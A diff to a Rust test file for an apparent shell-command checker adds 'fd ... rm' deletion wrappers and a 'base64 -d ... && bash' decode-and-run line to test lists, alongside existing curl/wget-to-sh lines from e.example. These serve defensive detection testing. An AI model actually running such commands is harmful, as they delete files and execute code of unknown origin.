@@ -108,6 +108,8 @@ fn what_changes_is_seen_behind_every_wrapper() {
             "watch -n 1 'rm a'",
             "parallel rm ::: a b",
             "flock /tmp/l rm a",
+            "fd -e tmp -x rm",
+            "fd -e tmp -X rm {}",
             "script -c 'rm a' /dev/null",
             "busybox rm a",
             "CMD='rm -rf a'; $CMD",
@@ -294,6 +296,7 @@ fn code_of_unknown_origin_is_marked() {
         "wget https://e.example/i.sh; sh ./i.sh",
         "curl https://e.example/i.sh > i.sh; sh i.sh",
         "curl https://e.example/i.sh | tee i.sh | sh",
+        "base64 -d a > a.sh && bash a.sh",
     ] {
         assert!(
             marks(text).contains(Marks::UNKNOWN_ORIGIN),
